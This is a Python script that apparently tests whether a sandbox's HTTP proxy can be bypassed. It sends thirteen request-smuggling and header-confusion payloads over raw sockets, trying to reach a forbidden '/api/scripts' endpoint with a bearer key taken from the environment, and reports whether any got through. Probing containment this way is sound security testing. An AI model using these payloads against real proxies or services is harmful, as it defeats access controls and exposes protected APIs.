# attack: smuggle a second request past the proxy's rules
# network: proxy
import os, socket, urllib.parse

if "http_proxy" not in os.environ:
    print("ESCAPED: there is no proxy")  # and nothing is sent
    raise SystemExit

proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
api = urllib.parse.urlsplit(os.environ["BLUEPLM_API_URL"])
key = "Authorization: Bearer " + os.environ["BLUEPLM_API_KEY"]
second = f"GET http://{api.netloc}/api/scripts HTTP/1.1\r\nHost: {api.netloc}\r\n{key}\r\n\r\n"
plm = f"http://{api.netloc}{api.path}/vaults"
attacks = [
    f"GET {plm} HTTP/1.1\r\nHost: x\r\n{key}\r\n\r\n" + second,
    f"POST {plm} HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + second,
    f"POST {plm} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 5\r\n\r\n" + second,
    f"POST {plm} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + second,
    f"POST {plm} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + second,
    f"GET {plm} HTTP/1.1\r\nHost: x\r\nX: y\r\n z\r\n\r\n" + second,
    f"GET {plm}\r\nHost: a HTTP/1.1\r\n\r\n" + second,
    f"GET {plm} HTTP/1.1\nHost: x\n\n" + second,
    f"GET {plm} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n" + second,
    f"GET /api/scripts HTTP/1.1\r\nHost: {api.netloc}\r\n{key}\r\n\r\n",
    f"GET http://{api.netloc}/api/scripts HTTP/0.9\r\n\r\n",
    "GET http://" + "a" * 100_000 + "/ HTTP/1.1\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
]
reached = []
for number, attack in enumerate(attacks):
    try:
        with socket.create_connection((proxy.hostname, proxy.port), 5) as client:
            client.settimeout(3)
            client.sendall(attack.encode())
            answer = b""
            while piece := client.recv(65536):
                answer += piece
    except OSError:
        pass
    if b'"scripts"' in answer or b'"next_cursor"' in answer:
        reached.append(number)
print("ESCAPED:" if reached else "contained", reached)
